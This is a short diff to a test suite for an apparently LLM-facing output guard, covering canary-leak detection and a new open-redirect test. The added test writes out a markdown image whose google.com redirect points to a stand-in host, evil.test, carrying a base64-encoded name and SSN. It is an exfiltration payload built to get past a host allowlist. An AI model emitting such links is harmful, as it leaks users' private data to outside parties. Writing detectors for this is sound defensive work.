@@ -290,3 +290,11 @@ def test_canary_leak_rot13() -> None:
     insert_canary(SYSTEM, ctx)
     encoded = codecs.encode(ctx.state["guard.canary"], "rot13")
     assert "guard.output.canary_leak" in leak_rules(f"decoded: {encoded}", ctx)
+
+
+def test_open_redirect_on_allowlisted_host() -> None:
+    inner = "https://evil.test/c?d=" + "QWxpY2UgU1NOIDUzNi0yMi0xOTQ3"
+    text = f"![x](https://www.google.com/url?q={inner})"
+    assert exfil(text, allowed_hosts=["google.com"]) == ["guard.output.exfil_image"]
+    plain = "![x](https://www.google.com/logo.png?size=2)"
+    assert exfil(plain, allowed_hosts=["google.com"]) == []
